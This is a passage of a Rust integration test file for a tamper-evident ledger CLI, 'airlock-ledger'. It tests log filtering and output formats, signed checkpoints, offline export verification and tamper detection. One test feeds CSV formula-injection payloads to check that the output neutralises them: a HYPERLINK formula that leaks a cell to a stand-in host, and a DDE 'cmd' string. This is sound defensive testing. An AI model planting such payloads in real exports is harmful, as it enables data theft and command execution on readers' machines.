//! The `airlock-ledger` binary as operators and auditors run it: `log` in each
//! format and filter, `show`, `checkpoint`, `export` checked on another machine,
//! `verify` of good, tampered and clock-skewed ledgers, exit codes, and profile
//! resolution. Outputs are compared exactly, with temporary paths replaced by `[TMP]`.
#![allow(clippy::unwrap_used)]

use airlock_format::keys::{PasswordSource, PublicKey, SecretKey, generate};
use airlock_ledger::{Entry, Ledger, NewEntry, Query};
use chrono::{DateTime, TimeZone, Utc};
use serde_json::{Value, json};
use std::ffi::OsStr;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

const BIN: &str = env!("CARGO_BIN_EXE_airlock-ledger");

/// What one run of the binary printed, with temporary paths replaced by `[TMP]`.
#[derive(Debug)]
struct Run {
    code: i32,
    stdout: String,
    stderr: String,
}

/// The binary in `cwd`, with an environment that does not leak into the results.
fn command(cwd: &Path) -> Command {
    let mut c = Command::new(BIN);
    c.current_dir(cwd)
        .env_remove("AIRLOCK_PROFILE")
        .env_remove("AIRLOCK_PASSWORD")
        .env_remove("SUDO_USER")
        .env_remove("LOGNAME")
        .env_remove("USERNAME")
        .env("USER", "auditor");
    c
}

fn finish(mut c: Command, tmp: &[&Path]) -> Run {
    let out = c.stdin(Stdio::null()).output().unwrap();
    let filter = |b: &[u8]| {
        let mut s = String::from_utf8(b.to_vec()).unwrap();
        for t in tmp {
            s = s.replace(t.to_str().unwrap(), "[TMP]");
        }
        s
    };
    let run = Run {
        code: out.status.code().unwrap_or(-1),
        stdout: filter(&out.stdout),
        stderr: filter(&out.stderr),
    };
    assert!(!run.stderr.contains("panicked"), "{run:#?}");
    run
}

/// Runs the binary in `cwd` with `args`.
fn run_in<S: AsRef<OsStr>>(cwd: &Path, args: &[S]) -> Run {
    let mut c = command(cwd);
    c.args(args);
    finish(c, &[cwd])
}

fn host_keys(dir: &Path) -> (SecretKey, PublicKey) {
    let g = generate(None, "host").unwrap();
    std::fs::write(dir.join("host.key"), &g.secret.0).unwrap();
    std::fs::write(dir.join("host.pub"), &g.public).unwrap();
    (
        SecretKey::from_file(&dir.join("host.key"), &PasswordSource::default()).unwrap(),
        PublicKey::from_file(&dir.join("host.pub")).unwrap(),
    )
}

fn at(y: i32, mo: u32, d: u32, h: u32, mi: u32, s: u32) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(y, mo, d, h, mi, s).unwrap()
}

/// A ledger in a temporary directory, with `host.key` and `host.pub` beside it (as
/// in a state directory).
struct Fixture {
    dir: tempfile::TempDir,
    db: PathBuf,
    pk: PublicKey,
}

impl Fixture {
    fn new(entries: impl IntoIterator<Item = NewEntry>) -> Fixture {
        let dir = tempfile::tempdir().unwrap();
        let (_, pk) = host_keys(dir.path());
        let db = dir.path().join("ledger.db");
        let mut l = Ledger::create(&db, "exch01", &pk, "airlock-applier").unwrap();
        for e in entries {
            l.append(e).unwrap();
        }
        Fixture { dir, db, pk }
    }

    /// Entries 2-5 at fixed times in 2020 (entry 1, `ledger.created`, is now).
    fn sample() -> Fixture {
        Fixture::new([
            NewEntry::new("bundle.verified", "airlock-applier", json!({"seq": 7}))
                .bundle("b-0007")
                .at(at(2020, 1, 1, 8, 0, 0)),
            NewEntry::new(
                "mitigation.applied",
                "airlock-applier",
                json!({"action": "url-block", "path": "/owa/*"}),
            )
            .bundle("b-0007")
            .mitigation("AM-2021-0001")
            .at(at(2020, 1, 2, 9, 30, 0) + chrono::TimeDelta::microseconds(250_000)),
            NewEntry::new("mitigation.applied", "airlock-applier", json!({}))
                .bundle("b-0007")
                .mitigation("AM-2021-0002")
                .at(at(2020, 1, 3, 0, 0, 0)),
            NewEntry::new(
                "mitigation.rolled_back",
                "operator",
                json!({"reason": "outage"}),
            )
            .mitigation("AM-2021-0001")
            .at(at(2020, 1, 4, 12, 0, 0)),
        ])
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }

    fn ledger(&self) -> Ledger {
        Ledger::open_read_only(&self.db).unwrap()
    }

    fn entries(&self) -> Vec<Entry> {
        let mut all = Vec::new();
        self.ledger()
            .query(&Query::default(), |e| {
                all.push(e);
                Ok(())
            })
            .unwrap();
        all
    }

    /// Runs the binary in the fixture's directory on its database.
    fn run(&self, args: &[&str]) -> Run {
        let mut full = vec!["--db", self.db.to_str().unwrap()];
        full.extend_from_slice(args);
        run_in(self.path(), &full)
    }
}

fn seqs_of_json(stdout: &str) -> Vec<u64> {
    let v: Value = serde_json::from_str(stdout).unwrap();
    v.as_array()
        .unwrap()
        .iter()
        .map(|e| e["seq"].as_u64().unwrap())
        .collect()
}

/// How `log --format csv` must show a text cell: prefixed with `'` when a
/// spreadsheet would run it as a formula.
fn guarded(s: &str) -> String {
    if s.starts_with(['=', '+', '-', '@']) {
        format!("'{s}")
    } else {
        s.to_string()
    }
}

// ---------------------------------------------------------------------------
// log

#[test]
fn log_csv_quotes_hostile_text_and_guards_formulas() {
    let hyperlink = r#"=HYPERLINK("https://evil.invalid/?d="&A1,"click me")"#;
    let f = Fixture::new([
        NewEntry::new(
            "operator.note",
            r#"Smith, "Bob""#,
            json!({"note": "a, \"quoted\" word\nand a second line"}),
        ),
        NewEntry::new(
            "operator.note",
            hyperlink,
            json!({"formula": "=HYPERLINK(\"https://evil.invalid\")", "comma": "x,y"}),
        ),
        NewEntry::new("mitigation.applied", "+cmd|' /C calc'!A0", json!({}))
            .bundle("-b1")
            .mitigation("-AM-1"),
        NewEntry::new(
            "operator.note",
            "@SUM(A1:A9)",
            json!({"snow": "\u{2603} Zoë"}),
        ),
        NewEntry::new(
            "operator.note",
            "-2+3",
            json!({"tab": "a\tb", "cr": "c\rd"}),
        ),
    ]);
    let r = f.run(&["log", "--format", "csv"]);
    assert_eq!((r.code, r.stderr.as_str()), (0, ""), "{r:#?}");
    assert!(
        r.stdout
            .starts_with("seq,ts,host,actor,kind,bundle,mitigation,detail,prev_hash,hash\r\n")
    );

    let mut rd = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(r.stdout.as_bytes());
    let header: Vec<String> = rd.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(
        header,
        [
            "seq",
            "ts",
            "host",
            "actor",
            "kind",
            "bundle",
            "mitigation",
            "detail",
            "prev_hash",
            "hash"
        ]
    );
    let records: Vec<csv::StringRecord> = rd.records().map(Result::unwrap).collect();
    let entries = f.entries();
    assert_eq!(records.len(), entries.len());
    assert_eq!(entries.len(), 6);
    for (rec, e) in records.iter().zip(&entries) {
        let want = [
            e.seq.to_string(),
            e.ts.clone(),
            e.host.clone(),
            guarded(&e.actor),
            e.kind.clone(),
            guarded(e.bundle.as_deref().unwrap_or("")),
            guarded(e.mitigation.as_deref().unwrap_or("")),
            e.detail.clone(),
            e.prev_hash.clone(),
            e.hash.clone(),
        ];
        let got: Vec<&str> = rec.iter().collect();
        assert_eq!(got, want, "entry {}", e.seq);
    }
    // The hostile cells, spelled out.
    assert_eq!(&records[1][3], r#"Smith, "Bob""#);
    assert_eq!(
        &records[1][7],
        r#"{"note":"a, \"quoted\" word\nand a second line"}"#
    );
    assert_eq!(&records[2][3], format!("'{hyperlink}"));
    assert_eq!(
        &records[2][7],
        r#"{"comma":"x,y","formula":"=HYPERLINK(\"https://evil.invalid\")"}"#
    );
    assert_eq!(&records[3][3], "'+cmd|' /C calc'!A0");
    assert_eq!((&records[3][5], &records[3][6]), ("'-b1", "'-AM-1"));
    assert_eq!(&records[4][3], "'@SUM(A1:A9)");
    assert_eq!(&records[4][7], r#"{"snow":"☃ Zoë"}"#);
    assert_eq!(&records[5][3], "'-2+3");
    // No raw line break inside a record: one CRLF-terminated line per entry.
    assert_eq!(r.stdout.matches("\r\n").count(), 7);
    assert_eq!(r.stdout.matches('\n').count(), 7);
}

#[test]
fn log_json_is_an_array_of_every_entry_with_detail_as_an_object() {
    let f = Fixture::sample();
    let r = f.run(&["log", "--format", "json"]);
    assert_eq!((r.code, r.stderr.as_str()), (0, ""), "{r:#?}");
    let v: Value = serde_json::from_str(&r.stdout).unwrap();
    let got = v.as_array().unwrap();
    let entries = f.entries();
    assert_eq!(got.len(), entries.len());
    for (g, e) in got.iter().zip(&entries) {
        let want = json!({
            "seq": e.seq,
            "ts": e.ts,
            "host": e.host,
            "actor": e.actor,
            "kind": e.kind,
            "bundle": e.bundle,
            "mitigation": e.mitigation,
            "detail": serde_json::from_str::<Value>(&e.detail).unwrap(),
            "prev_hash": e.prev_hash,
            "hash": e.hash,
        });
        assert_eq!(g, &want);
    }
    assert_eq!(seqs_of_json(&r.stdout), [1, 2, 3, 4, 5]);
}

#[test]
fn log_filters_return_exactly_the_matching_entries() {
    let f = Fixture::sample();
    let cases: &[(&[&str], &[u64])] = &[
        (&["--kind", "mitigation.applied"], &[3, 4]),
        (&["--kind", "ledger.created"], &[1]),
        (&["--mitigation", "AM-2021-0001"], &[3, 5]),
        (&["--bundle", "b-0007"], &[2, 3, 4]),
        (
            &[
                "--kind",
                "mitigation.applied",
                "--mitigation",
                "AM-2021-0001",
            ],
            &[3],
        ),
        (
            &["--kind", "mitigation.rolled_back", "--bundle", "b-0007"],
            &[],
        ),
        (&["--kind", "no.such_kind"], &[]),
        // A date: from the start of the day (entry 1 was written now, after 2020).
        (&["--since", "2020-01-02"], &[1, 3, 4, 5]),
        // --until a date includes that whole day.
        (&["--until", "2020-01-02"], &[2, 3]),
        (&["--since", "2020-01-02", "--until", "2020-01-03"], &[3, 4]),
        // RFC 3339 bounds are inclusive, to the microsecond.
        (
            &[
                "--since",
                "2020-01-02T09:30:00.25Z",
                "--until",
                "2020-01-03T00:00:00Z",
            ],
            &[3, 4],
        ),
        (
            &[
                "--since",
                "2020-01-02T09:30:00.250001Z",
                "--until",
                "2020-01-02T23:59:59.999999Z",
            ],
            &[],
        ),
        // Offsets are converted to UTC.
        (&["--until", "2020-01-03T01:00:00+01:00"], &[2, 3, 4]),
        (&["--until", "2020-01-03T00:59:59+01:00"], &[2, 3]),
        // An age: that long before now (entry 1 was written seconds ago).
        (&["--since", "1d"], &[1]),
        (&["--until", "1d"], &[2, 3, 4, 5]),
        // The ledger's own time form is accepted too.
        (
            &[
                "--since",
                "2020-01-04T12:00:00.000000Z",
                "--kind",
                "mitigation.rolled_back",
            ],
            &[5],
        ),
        (
            &[
                "--since",
                "2020-01-04T12:00:00.000001Z",
                "--kind",
                "mitigation.rolled_back",
            ],
            &[],
        ),
    ];
    for (filter, want) in cases {
        let mut args = vec!["log", "--format", "json"];
        args.extend_from_slice(filter);
        let r = f.run(&args);
        assert_eq!((r.code, r.stderr.as_str()), (0, ""), "{filter:?}: {r:#?}");
        assert_eq!(seqs_of_json(&r.stdout), *want, "{filter:?}");
        if want.is_empty() {
            assert_eq!(r.stdout, "[]\n", "{filter:?}");
        }
        // The same filter in the other formats selects the same entries.
        let mut args = vec!["log", "--format", "csv"];
        args.extend_from_slice(filter);
        let csv = f.run(&args);
        let seqs: Vec<u64> = csv::Reader::from_reader(csv.stdout.as_bytes())
            .records()
            .map(|r| r.unwrap()[0].parse().unwrap())
            .collect();
        assert_eq!(seqs, *want, "{filter:?} as csv");
        let mut args = vec!["log"];
        args.extend_from_slice(filter);
        let table = f.run(&args);
        assert_eq!(
            table.stdout.lines().count(),
            want.len() + 1,
            "{filter:?} as a table"
        );
    }
}

#[test]
fn log_refuses_a_time_it_cannot_read() {
    let f = Fixture::sample();
    let r = f.run(&["log", "--since", "last tuesday"]);
    assert_eq!(r.code, 2, "a bad argument is a usage error");
    assert_eq!(r.stdout, "");
    assert_eq!(
        r.stderr,
        "error: invalid value 'last tuesday' for '--since <T>': 'last tuesday' is not a time: use RFC 3339 (2026-11-28T08:00:00Z), a date (2026-11-28) or an age (7d)\n\nFor more information, try '--help'.\n"
    );
}

#[test]
fn log_table_has_a_header_and_one_line_per_entry() {
    let f = Fixture::sample();
    let r = f.run(&["log"]);
    assert_eq!((r.code, r.stderr.as_str()), (0, ""), "{r:#?}");
    let lines: Vec<&str> = r.stdout.lines().collect();
    assert_eq!(lines.len(), 6, "{}", r.stdout);
    assert_eq!(
        lines[0],
        "    SEQ  TIME (UTC)            KIND                      MITIGATION                BUNDLE        ACTOR                             DETAIL"
    );
    assert!(lines[1].starts_with("      1  "), "{}", lines[1]);
    assert_eq!(
        lines[2],
        r#"      2  2020-01-01T08:00:00Z  bundle.verified           -                         b-0007        airlock-applier                   {"seq":7}"#
    );
    assert_eq!(
        lines[3],
        r#"      3  2020-01-02T09:30:00Z  mitigation.applied        AM-2021-0001              b-0007        airlock-applier                   {"action":"url-block","path":"/owa/*"}"#
    );
    assert_eq!(
        lines[5],
        r#"      5  2020-01-04T12:00:00Z  mitigation.rolled_back    AM-2021-0001              -             operator                          {"reason":"outage"}"#
    );
}

#[test]
fn log_into_a_closed_pipe_is_not_an_error() {
    let f = Fixture::new((0..3000).map(|i| {
        NewEntry::new(
            "mitigation.applied",
            "airlock-applier",
            json!({"i": i, "pad": "x".repeat(200)}),
        )
    }));
    for format in ["table", "csv", "json"] {
        let mut c = command(f.path());
        c.args(["--db", f.db.to_str().unwrap(), "log", "--format", format])
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let mut child = c.spawn().unwrap();
        let mut first = [0u8; 16];
        std::io::Read::read_exact(child.stdout.as_mut().unwrap(), &mut first).unwrap();
        drop(child.stdout.take());
        let out = child.wait_with_output().unwrap();
        assert_eq!(out.status.code(), Some(0), "{format}");
        assert_eq!(String::from_utf8_lossy(&out.stderr), "", "{format}");
    }
}

// ---------------------------------------------------------------------------
// show

#[test]
fn show_prints_one_entry_in_full() {
    let f = Fixture::sample();
    let e = &f.entries()[2];
    let r = f.run(&["show", "3"]);
    assert_eq!((r.code, r.stderr.as_str()), (0, ""), "{r:#?}");
    assert_eq!(
        r.stdout,
        format!(
            "entry 3
  time        2020-01-02T09:30:00.250000Z
  host        exch01
  actor       airlock-applier
  kind        mitigation.applied
  bundle      b-0007
  mitigation  AM-2021-0001
  prev_hash   {}
  hash        {}
  detail
    {{
      \"action\": \"url-block\",
      \"path\": \"/owa/*\"
    }}
",
            e.prev_hash, e.hash
        )
    );

    let r = f.run(&["show", "5", "--json"]);
    assert_eq!((r.code, r.stderr.as_str()), (0, ""), "{r:#?}");
    let e = &f.entries()[4];
    let v: Value = serde_json::from_str(&r.stdout).unwrap();
    assert_eq!(
        v,
        json!({
            "seq": 5,
            "ts": "2020-01-04T12:00:00.000000Z",
            "host": "exch01",
            "actor": "operator",
            "kind": "mitigation.rolled_back",
            "bundle": null,
            "mitigation": "AM-2021-0001",
            "detail": {"reason": "outage"},
            "prev_hash": e.prev_hash,
            "hash": e.hash,
        })
    );
}

#[test]
fn show_of_a_missing_entry_names_the_valid_range() {
    let f = Fixture::sample();
    for seq in ["999", "0", "6"] {
        let r = f.run(&["show", seq]);
        assert_eq!(r.code, 1, "{r:#?}");
        assert_eq!(r.stdout, "");
        assert_eq!(
            r.stderr,
            format!(
                "airlock-ledger: error: the ledger has no entry {seq} (entries are 1 to 5)\n  what to do: airlock-ledger log lists the entries with their numbers\n"
            )
        );
    }
}

/// Regression: a seq above i64::MAX got "no entry N" without the valid range.
#[test]
fn show_of_a_seq_beyond_i64_names_the_valid_range() {
    let f = Fixture::sample();
    let r = f.run(&["show", "18446744073709551615"]);
    assert_eq!(r.code, 1, "{r:#?}");
    assert!(r.stderr.contains("(entries are 1 to 5)"), "{}", r.stderr);
}

// ---------------------------------------------------------------------------
// checkpoint, export, verify --export

#[test]
fn checkpoint_writes_the_body_and_a_minisign_signature() {
    let f = Fixture::new([NewEntry::new(
        "bundle.verified",
        "airlock-applier",
        json!({"seq": 1}),
    )]);
    let before = f.ledger().head().unwrap();
    let r = f.run(&["checkpoint", "--out", "cp.txt", "--json"]);
    assert_eq!((r.code, r.stderr.as_str()), (0, ""), "{r:#?}");
    let v: Value = serde_json::from_str(&r.stdout).unwrap();
    let l = f.ledger();
    let cp = airlock_ledger::Checkpoint::read(&f.path().join("cp.txt")).unwrap();
    cp.verify(&f.pk).unwrap();
    assert_eq!(
        v,
        json!({
            "ledger": l.id(),
            "host": "exch01",
            "size": 2,
            "head": before.hash.hex(),
            "time": cp.time,
            "key": f.pk.id().to_string(),
            "entry": 3,
            "out": "cp.txt",
        })
    );
    assert_eq!((cp.size, cp.head), (2, before.hash));
    assert_eq!(
        std::fs::read_to_string(f.path().join("cp.txt")).unwrap(),
        format!(
            "airlock-ledger checkpoint v1\nledger {}\nhost exch01\nsize 2\nhead {}\ntime {}\n",
            l.id(),
            before.hash,
            cp.time
        )
    );
    assert!(f.path().join("cp.txt.minisig").is_file());
    let stored = f.entries().pop().unwrap();
    assert_eq!(
        (stored.seq, stored.kind.as_str(), stored.actor.as_str()),
        (3, "checkpoint", "airlock-ledger:auditor")
    );
    assert_eq!(l.latest_checkpoint().unwrap(), Some(cp));

    // The text form, for a second checkpoint.
    let r = f.run(&["checkpoint", "--out", "cp2.txt"]);
    assert_eq!((r.code, r.stderr.as_str()), (0, ""), "{r:#?}");
    let cp2 = f.ledger().latest_checkpoint().unwrap().unwrap();
    assert_eq!(
        r.stdout,
        format!(
            "checkpoint of ledger {} at size 3 signed with host key {}\n  head        {}\n  stored as   entry 4\n  written to  cp2.txt and cp2.txt.minisig\n",
            l.id(),
            f.pk.id(),
            cp2.head
        )
    );

    // Stock minisign accepts the pair.
    let minisign = Command::new("minisign")
        .current_dir(f.path())
        .args(["-Vm", "cp.txt", "-p", "host.pub"])
        .output();
    match minisign {
        Ok(out) => {
            let text = String::from_utf8_lossy(&out.stdout);
            assert!(out.status.success(), "{out:?}");
            assert!(
                text.contains(&format!(
                    "airlock-checkpoint ledger={} host=exch01 size=2 head={}",
                    l.id(),
                    before.hash
                )),
                "{text}"
            );
        }
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
            println!("skipped: minisign not installed");
            assert_ne!(
                std::env::var("CI").as_deref(),
                Ok("true"),
                "minisign must be installed in CI"
            );
        }
        Err(e) => panic!("minisign: {e}"),
    }
}

#[test]
fn an_export_verifies_on_another_machine_without_the_database() {
    let f = Fixture::new([
        NewEntry::new("bundle.verified", "airlock-applier", json!({"seq": 7})).bundle("b-0007"),
        NewEntry::new("mitigation.applied", "airlock-applier", json!({}))
            .mitigation("AM-2021-0001"),
    ]);
    let r = f.run(&["checkpoint", "--out", "cp.txt"]);
    assert_eq!(r.code, 0, "{r:#?}");
    assert_eq!(f.ledger().head().unwrap().seq, 4);
    let id = f.ledger().id().to_string();
    let r = f.run(&["export", "--out", "export.jsonl"]);
    assert_eq!((r.code, r.stderr.as_str()), (0, ""), "{r:#?}");
    assert_eq!(
        r.stdout,
        format!(
            "exported 4 entries of ledger {id} to export.jsonl\n  latest checkpoint covers entries 1 to 3\n  check it anywhere with: airlock-ledger verify --export export.jsonl --key HOST.pub\n"
        )
    );
    let head = f.ledger().head().unwrap();

    // The auditor's machine: the export, the checkpoint and the host's public key only.
    let auditor = tempfile::tempdir().unwrap();
    for name in ["export.jsonl", "host.pub", "cp.txt", "cp.txt.minisig"] {
        std::fs::copy(f.path().join(name), auditor.path().join(name)).unwrap();
    }
    let key_id = f.pk.id().to_string();
    drop(f);

    let r = run_in(
        auditor.path(),
        &["verify", "--export", "export.jsonl", "--key", "host.pub"],
    );
    let intact = format!(
        "ledger {id} (host exch01): 4 entries, chain intact
  source      export.jsonl
  head        {} at {}
  checkpoints 1 stored, every signature checked with host key {key_id} (host.pub)
",
        head.hash, head.ts
    );
    assert_eq!((r.code, r.stderr.as_str()), (0, ""), "{r:#?}");
    assert_eq!(r.stdout, intact);

    let r = run_in(
        auditor.path(),
        &[
            "verify",
            "--export",
            "export.jsonl",
            "--checkpoint",
            "cp.txt",
            "--key",
            "host.pub",
        ],
    );
    assert_eq!((r.code, r.stderr.as_str()), (0, ""), "{r:#?}");
    assert_eq!(
        r.stdout,
        format!(
            "{intact}  proven      extends the checkpoint of size 3: no entry up to 3 was changed, removed or reordered\n"
        )
    );

    // A copy cut off before its end line is reported as truncated.
    let text = std::fs::read_to_string(auditor.path().join("export.jsonl")).unwrap();
    let cut: String = text.lines().take(4).map(|l| format!("{l}\n")).collect();
    std::fs::write(auditor.path().join("cut.jsonl"), cut).unwrap();
    let r = run_in(
        auditor.path(),
        &["verify", "--export", "cut.jsonl", "--key", "host.pub"],
    );
    assert_eq!(r.code, 3, "{r:#?}");
    assert_eq!(r.stdout, "");
    assert_eq!(
        r.stderr,
        "airlock-ledger: error: export cut.jsonl line 5: the file ends without its end line: it is truncated\n  what to do: get a complete copy of the export from the host (airlock-ledger export --out FILE) and verify again\n"
    );
}

/// Regression: `export --out` and `checkpoint --out` naming the database itself
/// replaced the ledger with the export or checkpoint text (exit 0).
#[test]
fn writing_an_export_or_checkpoint_over_the_database_is_refused() {
    for (cmd, out) in [
        ("export", "ledger.db"),
        ("checkpoint", "ledger.db"),
        ("checkpoint", "host.pub"),
        ("export", "./host.key"),
    ] {
        let f = Fixture::sample();
        let head = f.run(&["verify", "--json"]);
        let r = f.run(&[cmd, "--out", out]);
        assert_eq!(r.code, 1, "{cmd} --out {out}: {r:#?}");
        assert!(
            r.stderr.contains("which airlock-ledger never overwrites"),
            "{}",
            r.stderr
        );
        let v = f.run(&["verify", "--json"]);
        assert_eq!(v.code, 0, "{cmd} destroyed the ledger: {v:#?}");
        assert_eq!(
            v.stdout, head.stdout,
            "{cmd} --out {out} recorded something"
        );
    }
    // A directory, or a missing one, is refused before a checkpoint is recorded.
    let f = Fixture::sample();
    let head = f.run(&["verify", "--json"]);
    std::fs::create_dir(f.dir.path().join("sub")).unwrap();
    for out in ["sub", "missing/cp"] {
        let r = f.run(&["checkpoint", "--out", out]);
        assert_eq!(r.code, 1, "{out}: {r:#?}");
        assert_eq!(f.run(&["verify", "--json"]).stdout, head.stdout, "{out}");
    }
}

// ---------------------------------------------------------------------------
// verify

#[test]
fn verify_json_reports_a_good_ledger_and_the_first_edited_entry() {
    let f = Fixture::sample();
    let r = f.run(&["verify", "--json"]);
    assert_eq!(r.code, 0, "{r:#?}");
    let v: Value = serde_json::from_str(&r.stdout).unwrap();
    assert_eq!(v["ok"], true);
    assert_eq!(v["entries"], 5);
    assert_eq!(v["ledger"], f.ledger().id());
    assert_eq!(v["head"], f.ledger().head().unwrap().hash.hex());
    assert_eq!(
        v["signatures_checked"], true,
        "host.pub beside the database is used"
    );
    assert_eq!(v["source"], "[TMP]/ledger.db");

    // Tamper as someone with write access would: drop the trigger that refuses
    // UPDATE, edit entry 3, and put the trigger back exactly as it was.
    {
        let conn = rusqlite::Connection::open(&f.db).unwrap();
        let refused = conn.execute("UPDATE entries SET detail = '{}' WHERE seq = 3", []);
        assert!(refused.unwrap_err().to_string().contains("append-only"));
        let sql: String = conn
            .query_row(
                "SELECT sql FROM sqlite_schema WHERE type = 'trigger' AND name = 'entries_no_update'",
                [],
                |r| r.get(0),
            )
            .unwrap();
        conn.execute("DROP TRIGGER entries_no_update", []).unwrap();
        conn.execute(
            "UPDATE entries SET detail = ?1 WHERE seq = 3",
            [r#"{"action":"url-block","path":"/nothing"}"#],
        )
        .unwrap();
        conn.execute(&sql, []).unwrap();
    }
    let r = f.run(&["verify", "--json"]);
    assert_eq!(r.code, 3, "{r:#?}");
    let v: Value = serde_json::from_str(&r.stdout).unwrap();
    assert_eq!(
        v,
        json!({
            "ok": false,
            "seq": 3,
            "error": "entry 3: the stored hash does not match the entry's contents: the entry was edited",
        })
    );
    let r = f.run(&["verify"]);
    assert_eq!(r.code, 3, "{r:#?}");
    assert_eq!(r.stdout, "");
    assert_eq!(
        r.stderr,
        "airlock-ledger: error: entry 3: the stored hash does not match the entry's contents: the entry was edited\n  what to do: treat this ledger as tampered with: keep the file as evidence, compare it with an earlier export or checkpoint, and do not append to it\n"
    );
}

#[test]
fn verify_reports_a_dropped_trigger() {
    let f = Fixture::sample();
    let conn = rusqlite::Connection::open(&f.db).unwrap();
    conn.execute("DROP TRIGGER entries_no_delete", []).unwrap();
    drop(conn);
    let r = f.run(&["verify", "--json"]);
    assert_eq!(r.code, 3, "{r:#?}");
    let v: Value = serde_json::from_str(&r.stdout).unwrap();
    assert_eq!(
        v,
        json!({
            "ok": false,
            "seq": null,
            "error": "the trigger entries_no_delete was removed from the database",
        })
    );
}

#[test]
fn verify_refuses_another_hosts_key() {
    let f = Fixture::sample();
    let other = tempfile::tempdir().unwrap();
    let (_, other_pk) = host_keys(other.path());
    let key = other.path().join("host.pub");
    let r = f.run(&["verify", "--key", key.to_str().unwrap()]);
    assert_eq!(r.code, 3, "{r:#?}");
    assert_eq!(
        r.stderr,
        format!(
            "airlock-ledger: error: entry 1: this ledger was created for host key {}, not for the key given ({}): it is another host's ledger or a fabricated one\n  what to do: treat this ledger as tampered with: keep the file as evidence, compare it with an earlier export or checkpoint, and do not append to it\n",
            f.pk.id(),
            other_pk.id()
        )
    );
}

#[test]
fn verify_warns_when_the_clock_went_backwards() {
    let f = Fixture::new([
        NewEntry::new("bundle.verified", "airlock-applier", json!({})).at(at(2099, 1, 2, 0, 0, 0)),
        NewEntry::new("mitigation.applied", "airlock-applier", json!({}))
            .at(at(2099, 1, 1, 0, 0, 0)),
        NewEntry::new("mitigation.applied", "airlock-applier", json!({}))
            .at(at(2099, 1, 3, 0, 0, 0)),
    ]);
    let r = f.run(&["verify"]);
    assert_eq!(r.code, 0, "{r:#?}");
    assert!(r.stdout.contains("4 entries, chain intact"), "{}", r.stdout);
    assert_eq!(
        r.stderr,
        "airlock-ledger: warning: nothing in this ledger is signed (no checkpoint stored, none given): the chain is consistent, but only a checkpoint signed by the host key proves it is this host's ledger\n\
         airlock-ledger: warning: entry 3 has time 2099-01-01T00:00:00.000000Z, earlier than the entry before it (2099-01-02T00:00:00.000000Z): the host clock went backwards\n"
    );
    let r = f.run(&["verify", "--json"]);
    assert_eq!(r.code, 0, "{r:#?}");
    let v: Value = serde_json::from_str(&r.stdout).unwrap();
    assert_eq!(
        v["clock_warnings"],
        json!([{"seq": 3, "ts": "2099-01-01T00:00:00.000000Z", "previous_ts": "2099-01-02T00:00:00.000000Z"}])
    );
}

// ---------------------------------------------------------------------------
// exit codes and hostile databases

#[test]
fn usage_errors_exit_2() {
    let f = Fixture::sample();
    for args in [
        &["verify", "--checkpoint", "cp.txt"][..],
        &["log", "--no-such-flag"],
        &["log", "--format", "xml"],
        &["show", "three"],
        &["show"],
        &["export"],
        &["no-such-command"],
    ] {
        let r = f.run(args);
        assert_eq!(r.code, 2, "{args:?}: {r:#?}");
        assert_eq!(r.stdout, "", "{args:?}");
        assert!(r.stderr.starts_with("error: "), "{args:?}: {}", r.stderr);
    }
    let r = f.run(&["verify", "--checkpoint", "cp.txt"]);
    assert!(r.stderr.contains("--key <HOST.pub>"), "{}", r.stderr);
    let r = run_in(
        f.path(),
        &["verify", "--export", "e.jsonl", "--db", "ledger.db"],
    );
    assert_eq!(r.code, 2, "{r:#?}");
    let r = run_in(f.path(), &["--help"]);
    assert_eq!((r.code, r.stderr.as_str()), (0, ""), "{r:#?}");
}

#[test]
fn a_missing_database_is_named() {
    let dir = tempfile::tempdir().unwrap();
    for cmd in [
        &["log"][..],
        &["verify"],
        &["show", "1"],
        &["export", "--out", "e"],
    ] {
        let mut args = vec!["--db", "missing.db"];
        args.extend_from_slice(cmd);
        let r = run_in(dir.path(), &args);
        assert_eq!(r.code, 1, "{cmd:?}: {r:#?}");
        assert_eq!(
            r.stderr,
            "airlock-ledger: error: cannot open missing.db: no such file\n  what to do: check the path: missing.db (or a directory above it) does not exist\n",
            "{cmd:?}"
        );
    }
    assert!(!dir.path().join("e").exists());
}

#[test]
fn a_file_that_is_not_a_ledger_is_refused_without_a_panic() {
    let dir = tempfile::tempdir().unwrap();
    host_keys(dir.path());
    let conn = rusqlite::Connection::open(dir.path().join("other.db")).unwrap();
    conn.execute("CREATE TABLE entries (seq INTEGER)", [])
        .unwrap();
    drop(conn);
    std::fs::write(dir.path().join("empty.db"), b"").unwrap();
    // Pseudo-random bytes, the same on every run.
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    let noise: Vec<u8> = (0..8192)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x as u8
        })
        .collect();
    std::fs::write(dir.path().join("noise.db"), &noise).unwrap();
    let before: Vec<Vec<u8>> = ["other.db", "empty.db", "noise.db"]
        .iter()
        .map(|n| std::fs::read(dir.path().join(n)).unwrap())
        .collect();

    let unchanged = |what: &str| {
        let now: Vec<Vec<u8>> = ["other.db", "empty.db", "noise.db"]
            .iter()
            .map(|n| std::fs::read(dir.path().join(n)).unwrap())
            .collect();
        assert!(before == now, "{what} changed a file that is not a ledger");
    };
    let read_only = [
        &["log"][..],
        &["log", "--format", "csv"],
        &["verify"],
        &["verify", "--json"],
        &["show", "1"],
        &["export", "--out", "e.jsonl"],
    ];
    // `checkpoint` last: it opens the file for writing (see the ignored test below).
    let commands: Vec<&[&str]> = read_only
        .iter()
        .copied()
        .chain([&["checkpoint"][..]])
        .collect();
    for (db, cmd) in ["other.db", "empty.db"]
        .iter()
        .flat_map(|db| read_only.iter().map(move |c| (*db, *c)))
    {
        let mut args = vec!["--db", db];
        args.extend_from_slice(cmd);
        let r = run_in(dir.path(), &args);
        assert_eq!(r.code, 1, "{db} {cmd:?}: {r:#?}");
        assert_eq!(
            r.stderr,
            format!(
                "airlock-ledger: error: {db} is not an airlock ledger: it has no airlock_schema table\n  what to do: pass the ledger.db of an airlock state directory (--db FILE or the profile's state_dir)\n"
            ),
            "{db} {cmd:?}"
        );
    }
    unchanged("a read-only command");
    for db in ["other.db", "empty.db"] {
        let r = run_in(dir.path(), &["--db", db, "checkpoint"]);
